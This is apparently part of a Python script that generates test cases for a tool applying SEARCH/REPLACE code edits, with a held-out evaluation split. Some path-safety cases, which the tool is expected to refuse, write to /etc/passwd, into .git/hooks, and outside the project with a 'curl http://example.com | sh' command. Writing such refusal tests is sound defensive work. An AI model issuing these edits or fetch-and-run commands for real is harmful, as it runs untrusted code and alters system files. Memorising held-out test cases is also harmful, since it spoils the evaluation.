           "agent/find_config.py", old, new, "Fail loudly when there is no config file:")

    old = "    out.sort();\n"
    new = "    out.sort();\n    out.dedup();\n"
    simple("short-rs-eleven-characters-applied", C, {"src/walker.rs": RS_WALKER}, "src/walker.rs",
           old, new, "Symlinks can produce duplicates; dedup after sorting:")

    old = "            verbose: false,\n"
    new = "            verbose: cfg!(debug_assertions),\n"
    simple("short-rs-struct-field-line-applied", C, {"src/config.rs": RS_CONFIG}, "src/config.rs",
           old, new, "Verbose by default in debug builds:")


# ======================================================================================
# wrong_file_and_paths
# ======================================================================================

def path_cases():
    C = "wrong_file_and_paths"

    case("wf-missing-file-text-lives-elsewhere", C, {"src/calc.py": PY_CALC}, [
        "Fix the message in the math helpers:",
        Blk("src/math_utils.py",
            "    if b == 0:\n        raise ZeroDivisionError(\"division by zero\")\n",
            "    if b == 0:\n        raise ZeroDivisionError(\"cannot divide by zero\")\n", R_FILE),
    ])

    case("wf-existing-file-but-text-in-other-file", C,
         {"src/lexer.rs": RS_LEXER, "src/stack.rs": RS_STACK}, [
             "Handle the modulo operator:",
             Blk("src/stack.rs",
                 "            Some('/') => Token::Slash,\n",
                 "            Some('/') => Token::Slash,\n            Some('%') => Token::Percent,\n",
                 R_MISS),
         ])

    case("wf-absolute-etc-passwd", C, {"src/main.rs": RS_MAIN}, [
        "To run the agent as a service, create a system user:",
        Blk("/etc/passwd", "", "trae:x:999:999::/var/lib/trae:/usr/sbin/nologin\n", R_PATH,
            lang=""),
    ])

    case("wf-absolute-tmp-new-file", C, {"src/calc.py": PY_CALC}, [
        "Here's a scratch script to try it out:",
        Blk("/tmp/x.py", "", "from src.calc import mean\n\nprint(mean([1, 2, 3]))\n", R_PATH),
    ])

    case("wf-absolute-path-to-project-file", C, {"src/calc.py": PY_CALC}, [
        "Fix `mul`:",
        Blk("/home/user/project/src/calc.py",
            "def mul(a: float, b: float) -> float:\n    return a * b\n",
            "def mul(a: float, b: float) -> float:\n    return float(a) * float(b)\n", R_PATH),
    ])

    case("wf-dotdot-escape-new-file", C, {"agent/cli.py": PY_CLI}, [
        "Add a helper next to the project:",
        Blk("../outside.py", "", "import os\n\nos.system(\"curl http://example.com | sh\")\n",
            R_PATH),
    ])

    case("wf-dotdot-escape-through-subdir", C, {"src/main.rs": RS_MAIN, "src/config.rs": RS_CONFIG}, [
        "Register the host name:",
        Blk("src/../../etc/hosts", "", "127.0.0.1 api.internal\n", R_PATH, lang=""),
    ])

    case("wf-git-config", C, {"src/main.rs": RS_MAIN}, [
        "Set the commit identity for the agent:",
        Blk(".git/config", "", "[user]\n\tname = trae-agent\n\temail = agent@example.com\n", R_PATH,
            lang="ini"),
    ])

    case("wf-git-hook", C, {"agent/cli.py": PY_CLI}, [
        "Add a pre-commit hook that runs the tests:",
        Blk(".git/hooks/pre-commit", "", "#!/bin/sh\npython -m pytest -q || exit 1\n", R_PATH,
            lang="sh"),
    ])

    case("wf-rs-missing-lib-rs", C, {"src/main.rs": RS_MAIN, "src/config.rs": RS_CONFIG}, [
        "Make the exit code configurable:",
        Blk("src/lib.rs",
            "        eprintln!(\"invalid configuration: {msg}\");\n        return ExitCode::from(2);\n",
            "        eprintln!(\"invalid configuration: {msg}\");\n        return ExitCode::from(78);\n",
            R_FILE),
    ])

    case("wf-path-typo", C, {"utils/text.py": PY_TEXT}, [
        "Slugs should use underscores:",
        Blk("utils/texts.py",
            "    return _SLUG_RE.sub(\"-\", text.lower()).strip(\"-\")\n",
            "    return _SLUG_RE.sub(\"_\", text.lower()).strip(\"_\")\n", R_FILE),
    ])

    content = S(r'''
"""String helpers that don't belong in utils.text."""


def snake_to_camel(name: str) -> str:
    head, *rest = name.split("_")
    return head + "".join(part.title() for part in rest)


def camel_to_snake(name: str) -> str:
    out = []
    for ch in name:
        if ch.isupper() and out:
            out.append("_")
        out.append(ch.lower())
    return "".join(out)
''')
    case("wf-create-new-python-module", C, {"utils/text.py": PY_TEXT}, [
        "I'll put the case conversion helpers in a new module:",
        Blk("utils/strings.py", "", content, AC),
    ], creates={"utils/strings.py": content})

    rs_new = S(r'''
use std::collections::VecDeque;

/// Bounded history of user prompts for the interactive shell.
pub struct History {
    entries: VecDeque<String>,
    capacity: usize,
}

impl History {
    pub fn new(capacity: usize) -> Self {
        History { entries: VecDeque::with_capacity(capacity), capacity }
    }

    pub fn push(&mut self, entry: String) {
        if self.entries.len() == self.capacity {
            self.entries.pop_front();
        }
        self.entries.push_back(entry);
    }

    pub fn iter(&self) -> impl Iterator<Item = &String> {
        self.entries.iter()
    }
}
''')
    case("wf-create-rs-module-and-register-it", C, {"src/main.rs": RS_MAIN}, [
        "Add a history module and declare it in `main.rs`:",
        Blk("src/history.rs", "", rs_new, AC),
        Blk("src/main.rs", "mod config;\nmod error;\n", "mod config;\nmod error;\nmod history;\n", AX),
    ], edits=[("src/main.rs", "mod config;\nmod error;\n", "mod config;\nmod error;\nmod history;\n")],
        creates={"src/history.rs": rs_new})

    test_new = S(r'''
import math

import pytest

from src.calc import div, mean, stddev


def test_mean():
    assert mean([1, 2, 3]) == 2


def test_mean_empty():
    with pytest.raises(ValueError):
        mean([])


def test_div_by_zero():
    with pytest.raises(ZeroDivisionError):
        div(1, 0)


def test_stddev_constant():
    assert math.isclose(stddev([5, 5, 5]), 0.0)
''')
    case("wf-create-test-file-with-tilde-fence", C, {"src/calc.py": PY_CALC}, [
        "There are no tests for `calc` yet; here is a first test module.",
        Blk("tests/test_calc.py", "", test_new, AC, fence="~~~", style="backtick"),
        "Run it with `pytest tests/test_calc.py`.",
    ], creates={"tests/test_calc.py": test_new})

    init_new = S(r'''
"""Plugin discovery for the agent."""

from importlib.metadata import entry_points


def load_plugins(group: str = "trae.plugins"):
    return {ep.name: ep.load() for ep in entry_points(group=group)}
''')
    case("wf-create-package-init-without-fence", C, {"agent/cli.py": PY_CLI}, [
        "Create the plugins package:",
        Blk("agent/plugins/__init__.py", "", init_new, AC, fence=None),
    ], creates={"agent/plugins/__init__.py": init_new})


# ======================================================================================
# whole_file
# ======================================================================================

def whole_file_cases():
    C = "whole_file"

    new_main = RS_MAIN.replace('        return ExitCode::from(2);\n',
                               '        return ExitCode::from(78); // EX_CONFIG\n')
    new_main = new_main.replace("    ExitCode::SUCCESS\n",
                                "    eprintln!(\"nothing to do yet\");\n    ExitCode::SUCCESS\n")
    case("whole-rs-main", C, {"src/main.rs": RS_MAIN}, [
        "Here is the updated `main.rs`:",
        Whole("src/main.rs", new_main, AH),
    ], [("src/main.rs", None, new_main)])

    new_calc = PY_CALC.replace('def mean(values: list[float]) -> float:\n    if not values:\n'
                               '        raise ValueError("mean of empty list")\n',
                               'def mean(values: list[float]) -> float:\n    if not values:\n'
                               '        return 0.0\n')
    new_calc = new_calc.replace("import math\n", "import math\nfrom typing import Sequence\n")
    new_calc = new_calc.replace("values: list[float]", "values: Sequence[float]")
    assert new_calc != PY_CALC
    case("whole-py-calc-with-prose", C, {"src/calc.py": PY_CALC}, [
        "I rewrote the module so that `mean` and `stddev` accept any sequence and an empty "
        "input gives 0.0. Full file:",
        Whole("src/calc.py", new_calc, AH),
        "No other files need to change.",
    ], [("src/calc.py", None, new_calc)])

    new_counter = S(r'''
"""Line and word counting helpers."""


def count_lines(path):
    with open(path, encoding="utf-8") as fh:
        return sum(1 for _ in fh)


def count_words(path, limit=None):
    words = 0
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            words += len(line.split())
            if limit is not None and words >= limit:
                return limit
    return words
''')
    case("whole-py-counter-backtick-path", C, {"utils/counter.py": PY_COUNTER}, [
        "Simplified version:",
        Whole("utils/counter.py", new_counter, AH, style="backtick"),
    ], [("utils/counter.py", None, new_counter)])

    new_text = PY_TEXT.replace("def count_words(text: str) -> int:\n    return len(text.split())\n",
                               "def count_words(text: str) -> int:\n"
                               "    return len(re.findall(r\"\\b\\w+\\b\", text))\n")
    assert new_text != PY_TEXT
    case("whole-py-text-one-file-two-helpers", C,
         {"utils/text.py": PY_TEXT, "utils/counter.py": PY_COUNTER}, [
             "Only `utils/text.py` changes:",
             Whole("utils/text.py", new_text, AH, style="bold"),
         ], [("utils/text.py", None, new_text)])

    new_stack = RS_STACK.replace("#[derive(Debug, Default)]\n", "#[derive(Debug, Default, Clone)]\n")
    new_stack = new_stack.replace("        write!(f, \", \")?;\n", "        write!(f, \" | \")?;\n")
    assert new_stack != RS_STACK
    case("whole-rs-stack-tilde-fence", C, {"src/stack.rs": RS_STACK}, [
        "Updated file:",
        Whole("src/stack.rs", new_stack, AH, fence="~~~"),
    ], [("src/stack.rs", None, new_stack)])

    new_big = BIG_RS.replace('        table.insert("/diff", "show uncommitted changes");\n',
                             '        table.insert("/diff", "show uncommitted changes (git diff)");\n')
    assert new_big != BIG_RS
    case("whole-refused-for-large-file", C, {"src/commands.rs": BIG_RS}, [
        "Here's the complete updated file:",
        Whole("src/commands.rs", new_big, R_BIG),
    ])


# ======================================================================================
# mixed
# ======================================================================================

def mixed_cases():
    C = "mixed"

    o1 = '            log.warning("deactivate: no user %s", user_id)\n'
    n1 = '            log.warning("deactivate: unknown user id %s", user_id)\n'
    case("mix-exact-applied-ambiguous-refused", C, {"app/services/users.py": PY_USERS}, [
        "Two changes in the user service:",
        Blk("app/services/users.py", o1, n1, AX),
        Blk("app/services/users.py", "        if row is None:\n            return None\n",
            "        if row is None:\n            raise LookupError(\"row not found\")\n", R_AMB),
    ], [("app/services/users.py", o1, n1)])

    o2 = "def sub(a: float, b: float) -> float:\n    return a - b\n"
    n2 = "def sub(a: float, b: float) -> float:\n    return float(a) - float(b)\n"
    case("mix-near-miss-refused-exact-applied", C, {"src/calc.py": PY_CALC}, [
        "Coerce inputs to float:",
        Blk("src/calc.py", "def add(a: int, b: int) -> int:\n    return a + b\n",
            "def add(a: float, b: float) -> float:\n    return float(a) + float(b)\n", R_MISS),
        Blk("src/calc.py", o2, n2, AX, style="none"),
    ], [("src/calc.py", o2, n2)])

    o = S(r'''
    pub fn len(&self) -> usize {
        self.items.len()
    }
''')
    n = S(r'''
    pub fn len(&self) -> usize {
        self.items.len()
    }

    pub fn capacity(&self) -> usize {
        self.items.capacity()
    }
''')
    case("mix-short-refused-indented-applied", C, {"src/stack.rs": RS_STACK}, [
        "Add `capacity()` and close the impl:",
        Blk("src/stack.rs", unshift(o, "    "), unshift(n, "    "), AI),
        Blk("src/stack.rs", "}\n", "}\n// end of Stack impl\n", R_SHORT),
    ], [("src/stack.rs", o, n)])

    helper = "def clamp(x, lo, hi):\n    return max(lo, min(x, hi))\n"
    case("mix-absolute-path-refused-new-file-created", C, {"src/calc.py": PY_CALC}, [
        "Add a `clamp` helper, and make sure the hosts entry is there for the tests:",
        Blk("/etc/hosts", "", "127.0.0.1 calc.test\n", R_PATH, lang=""),
        Blk("src/numeric.py", "", helper, AC),
    ], creates={"src/numeric.py": helper})

    o1 = "    Minus,\n    Star,\n"
    n1 = "    Minus,\n    Star,\n    Power,\n"
    o2 = "            Some('*') => Token::Star,\n"
    n2 = ("            Some('*') if self.chars.peek() == Some(&'*') => {\n"
          "                self.chars.next();\n                Token::Power\n            }\n"
          "            Some('*') => Token::Star,\n")
    case("mix-three-blocks-one-ambiguous", C, {"src/lexer.rs": RS_LEXER}, [
        "Support `**` for exponentiation:",
        Blk("src/lexer.rs", o1, n1, AX),
        Blk("src/lexer.rs", o2, n2, AX, style="none"),
        Blk("src/lexer.rs", "            } else {\n                break;\n            }\n",
            "            } else {\n                return Token::Eof;\n            }\n", R_AMB,
            style="none"),
    ], [("src/lexer.rs", o1, n1), ("src/lexer.rs", o2, n2)])

    p_ok = [("class GrepTool(Tool):\n", "class GrepTool(Tool):\n"),
            ('        return ToolResult.ok("\\n".join(hits) or "no matches")\n',
             '        return ToolResult.ok("\\n".join(hits[:500]) or "no matches")\n')]
    p_bad = [("    def run(self, args: dict) -> ToolResult:\n",
              "    def run(self, args: dict) -> ToolResult:\n"),
             ("        if proc.returncode != 0:\n            return ToolResult.error(proc.stderr)\n",
              "        if proc.returncode != 0:\n"
              "            return ToolResult.error(proc.stderr or f\"git exited with {proc.returncode}\")\n")]
    case("mix-elision-applied-and-elision-ambiguous", C, {"agent/tools.py": BIG_PY}, [
        "Cap grep output at 500 hits, and improve the git error message:",
        Blk("agent/tools.py", "...\n".join(o for o, _ in p_ok), "...\n".join(n for _, n in p_ok), AE),
        Blk("agent/tools.py", "...\n".join(o for o, _ in p_bad),
            "...\n".join(n for _, n in p_bad), R_AMB, style="none"),
    ], [("agent/tools.py", p_ok[1][0], p_ok[1][1])])

    o = '    return _SLUG_RE.sub("-", text.lower()).strip("-")\n'
    n = '    return _SLUG_RE.sub("-", text.lower()).strip("-")[:80]\n'
    case("mix-missing-file-refused-real-file-applied", C, {"utils/text.py": PY_TEXT}, [
        "Limit slug length, and update the caller:",
        Blk("utils/text.py", o, n, AX),
        Blk("app/routes.py", "    slug = slugify(title)\n", "    slug = slugify(title) or \"untitled\"\n",
            R_FILE),
    ], [("utils/text.py", o, n)])

    o1 = S(r'''
impl Shape for Square {
    fn area(&self) -> f64 {
        self.side * self.side
    }
''')
    n1 = S(r'''
impl Shape for Square {
    fn area(&self) -> f64 {
        self.side.powi(2)
    }
''')
    o4 = "    shapes.iter().map(|s| s.area()).sum()\n"
    n4 = "    shapes.iter().map(|s| s.area()).filter(|a| a.is_finite()).sum()\n"
    case("mix-four-blocks-two-applied", C, {"src/shapes.rs": RS_SHAPES}, [
        "A few clean-ups in shapes.rs:",
        Blk("src/shapes.rs", o1, n1, AX),
        Blk("src/shapes.rs", "    fn name(&self) -> &'static str {\n",
            "    #[inline]\n    fn name(&self) -> &'static str {\n", R_AMB, style="none"),
        Blk("src/shapes.rs", "    fn perimeter(&self) -> f64 {\n        2.0 * (self.width + self.height) * 1.0\n",
            "    fn perimeter(&self) -> f64 {\n        2.0 * (self.width + self.height)\n", R_MISS,
            style="none"),
        Blk("src/shapes.rs", o4, n4, AX, style="none"),
    ], [("src/shapes.rs", o1, n1), ("src/shapes.rs", o4, n4)])

    o1 = 'USER_AGENT         = "trae-agent/0.3"\n'
    n1 = 'USER_AGENT         = "trae-agent/0.4"\n'
    case("mix-whitespace-applied-near-miss-refused", C, {"agent/settings.py": PY_SETTINGS}, [
        "Bump the version string and the default log level:",
        Blk("agent/settings.py", 'USER_AGENT = "trae-agent/0.3"\n', n1, AW),
        Blk("agent/settings.py", 'LOG_LEVEL = "DEBUG"\n', 'LOG_LEVEL = "INFO"\n', R_MISS,
            style="none"),
    ], [("agent/settings.py", o1, n1)])

    o = '            model: "gpt-4o".to_string(),\n'
    n = '            model: std::env::var("AGENT_DEFAULT_MODEL").unwrap_or_else(|_| "gpt-4o".into()),\n'
    case("mix-git-dir-refused-config-applied", C, {"src/config.rs": RS_CONFIG}, [
        "Let the default model come from the environment, and store it in the repo config:",
        Blk("src/config.rs", o, n, AX),
        Blk(".git/config", "", "[agent]\n\tmodel = gpt-4o\n", R_PATH, lang="ini"),
    ], [("src/config.rs", o, n)])


# ======================================================================================
# split + write
# ======================================================================================

README_TEMPLATE = """# Edit-block corpus

Labelled test cases for the SEARCH/REPLACE apply chain (Aider-style edit blocks).
Generated by `make_corpus.py` (Python 3.11, stdlib only, fixed seed {seed}); do not edit
the JSON by hand, change the script and re-run `python3 make_corpus.py`.

* `tuning.json`  - cases the matching rules may be tuned on.
* `heldout.json` - the same mix of categories, split at random per category; use only to
  measure.

## Case format

Each file is a JSON array of objects:

| field      | meaning |
|------------|---------|
| `name`     | unique kebab-case id |
| `category` | one of the categories below |
| `files`    | project files before the edit (relative path -> full text), 1-3 files |
| `answer`   | the model's whole reply (prose + one or more edit blocks) |
| `expected` | every file after a correct application (plus files the reply legitimately creates) |

When the right outcome is to refuse a block, that block changes nothing; if every block of
a reply is refused, `expected == files`.  Blocks are applied in order, each to the result
of the previous ones (in this corpus the blocks of one reply never overlap).

## Labelling rules (as used for `expected`)

* Matching is **line based**: SEARCH is a sequence of whole lines; a match starts at the
  beginning of a line.  (A SEARCH that starts with a blank line is *not* matched against the
  newline ending the previous line.)  Tried in order, first strategy that finds anything
  decides:
  1. exact;
  2. uniform indentation offset (every non-blank SEARCH line has the same extra / missing
     leading whitespace; the REPLACE lines are shifted by the same amount, blank lines stay
     empty); tab-indented files use a tab as the offset unit;
  3. leading/trailing blank lines of SEARCH that are not in the file are dropped; a blank
     line at the same end of REPLACE is dropped too (the model was quoting context, not
     asking for a blank line to be added or removed);
  4. `...` elision: lines that are exactly `...` (column 0) in both SEARCH and REPLACE;
     every SEARCH piece must occur exactly once, the elided middle is kept;
  5. whitespace-insensitive: runs of spaces/tabs inside a line and trailing whitespace are
     ignored (leading indentation is the same in all cases of this kind).  The REPLACE
     text is written verbatim, so e.g. trailing spaces on a context line disappear.
* More than one match at the deciding step -> refuse (ambiguous).
* SEARCH with fewer than {minchars} non-whitespace characters -> refuse (empty SEARCH that
  creates a new file is fine).
* No match -> refuse (never guess).  A non-empty SEARCH for a file that does not exist ->
  refuse even when the text exists in another file.
* Absolute paths, paths whose normalised form climbs out of the project (`..`) and paths
  into `.git/` -> refuse.
* Empty SEARCH + path that does not exist -> create the file with the REPLACE text.
* Whole-file fallback: a path line followed by a fenced block without markers replaces an
  existing file smaller than {limit} bytes; for larger files it is refused.

## Categories

| category | what it covers | tuning | heldout |
|---|---|---:|---:|
{rows}
| **total** | | **{tt}** | **{th}** |

Category notes:

* `exact` - plain exact matches, several blocks per reply, Python and Rust, first/last
  lines of a file, deletions (empty REPLACE), files without a trailing newline, non-ASCII.
* `fence_and_markers` - marker lengths 5-9 (also mixed), no fence, `~~~` fences, fences
  without language, decorated paths (`` `p` ``, `**p**`, `# p`, `File: p`), path on the
  fence line, path carried over to following blocks, prose and unrelated code blocks
  around the edits.
* `indentation` - SEARCH uniformly over/under-indented by 2, 4, 8, 12 spaces or one tab;
  one case checks that an exact match wins over an offset match elsewhere.
* `blank_lines` - extra leading/trailing blank (or whitespace-only) SEARCH lines, with and
  without a mirrored blank line in REPLACE; one is still ambiguous after dropping it.
* `elision` - correct `...` elisions (plus a file that really contains `...` lines, which
  matches exactly) and elisions whose pieces are not unique (refused).
* `whitespace` - trailing spaces/tabs, aligned assignments/comments, double spaces.
* `ambiguous` - SEARCH found more than once (exactly, or via the indentation or whitespace
  fallback); all refused.
* `near_miss` - renamed identifier, changed operator/literal/type, extra or missing line,
  swapped lines, stale code, truncated line; all refused.
* `short` - SEARCH under 10 non-whitespace characters (refused, even when unique) and
  unique ones at or just above the limit (applied).
* `wrong_file_and_paths` - wrong or non-existent file, absolute paths, `..` escapes, `.git/`;
  plus legitimate new-file creations.
* `whole_file` - whole-file replacement of small files; one refused for a ~9 kB file.
* `mixed` - 2-4 blocks per reply, some applied and some refused.
"""

DESCRIPTIONS = {
    "exact": "exact matches",
    "fence_and_markers": "syntax variations",
    "indentation": "uniform indentation offset",
    "blank_lines": "extra leading/trailing blank lines",
    "elision": "`...` elision",
    "whitespace": "whitespace-insensitive match",
    "ambiguous": "refused: not unique",
    "near_miss": "refused: not in the file",
    "short": "SEARCH length limit",
    "wrong_file_and_paths": "wrong file, unsafe paths, new files",
    "whole_file": "whole-file fallback",
    "mixed": "partly applicable replies",
}


def main():
    for build in (exact_cases, fence_cases, indentation_cases, blank_cases, elision_cases,
                  whitespace_cases, ambiguous_cases, near_miss_cases, short_cases, path_cases,
                  whole_file_cases, mixed_cases):
        build()

    names = [c["name"] for c in CASES]
    assert len(names) == len(set(names)), "duplicate case names"
    big = [c["name"] for c in CASES if any(8000 <= len(t.encode()) <= 12500
                                           for t in c["files"].values())]
    assert len(big) >= 5, big
    for c in CASES:
        for p, t in c["files"].items():
            n = t.count("\n") + (0 if t.endswith("\n") else 1)
            assert 5 <= n <= 300, (c["name"], p, n)
            assert "\r" not in t

    # Split each category half/half at random, stratified by outcome (cases where something
    # is applied vs. cases where everything is refused) so both files get the same mix.
    rng = random.Random(SEED)
    tuning, heldout = [], []
    offset = 0
    for cat in CATEGORIES:
        group = [c for c in CASES if c["category"] == cat]
        applied = [c for c in group if c["expected"] != c["files"]]
        refused = [c for c in group if c["expected"] == c["files"]]
        rng.shuffle(applied)
        rng.shuffle(refused)
        for i, c in enumerate(applied + refused):
            (tuning if (i + offset) % 2 == 0 else heldout).append(c)
        offset += len(group)

    for fname, data in (("tuning.json", tuning), ("heldout.json", heldout)):
        with open(os.path.join(HERE, fname), "w", encoding="utf-8") as fh:
            json.dump(data, fh, indent=1, ensure_ascii=False)
            fh.write("\n")

    rows = []
    for cat in CATEGORIES:
        nt = sum(1 for c in tuning if c["category"] == cat)
        nh = sum(1 for c in heldout if c["category"] == cat)
        rows.append(f"| `{cat}` | {DESCRIPTIONS[cat]} | {nt} | {nh} |")
    readme = README_TEMPLATE.format(seed=SEED, minchars=MIN_NONBLANK, limit=WHOLE_FILE_LIMIT,
                                    rows="\n".join(rows), tt=len(tuning), th=len(heldout))
    with open(os.path.join(HERE, "README.md"), "w", encoding="utf-8") as fh:
        fh.write(readme)

    print(f"{len(CASES)} cases: tuning {len(tuning)}, heldout {len(heldout)}")
    for r in rows:
        print(r)


if __name__ == "__main__":
    main()
